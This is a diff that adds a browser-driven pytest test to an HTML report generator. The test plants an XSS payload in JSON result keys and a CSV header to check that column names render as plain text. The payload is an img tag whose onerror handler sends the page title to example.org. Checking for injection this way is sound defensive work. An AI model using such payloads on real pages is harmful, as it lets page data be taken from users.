@@ -280,3 +280,30 @@ def test_refusals_say_why(
     (copy / "summary.json").write_text('{"schema": "cnnviz.x/1", "command": "x"}')
     assert "not a summary of cnnviz" in refused(str(copy), "--out", str(tmp_path / "x.html"))
     assert not (tmp_path / "x.html").exists()
+
+
+LEAVES = "<img src=x onerror=\"location='https://example.org/?'+document.title\">"
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", ["layers", "saliency", "audit"])
+def test_names_of_columns_are_text(name: str, runs: Path, tmp_path: Path, browser: Any) -> None:
+    shutil.copytree(folder(runs, name), tmp_path / "run")
+    summary = tmp_path / "run" / "summary.json"
+    content = json.loads(summary.read_text())
+    if isinstance(content["results"], list):
+        for entry in content["results"]:
+            entry[f"{LEAVES}key"] = LEAVES
+    (tmp_path / "run" / "more.csv").write_text(
+        "\n".join([f'"{LEAVES.replace(chr(34), chr(34) * 2)}",b', "1,2", "3,4"])
+    )
+    content["files"].append("more.csv")
+    summary.write_text(json.dumps(content))
+    page = tmp_path / "page.html"
+    assert run(["report", str(tmp_path / "run"), "--out", str(page), "--quiet"]) == 0
+    opened = Opened(browser, page)
+    titles = opened.page.locator(".slick-header-column").all_inner_texts()
+    assert any("<img" in title for title in titles)
+    opened.page.locator(".slick-header-column", has_text="<img").first.hover()
+    opened.page.wait_for_timeout(300)
+    opened.close()
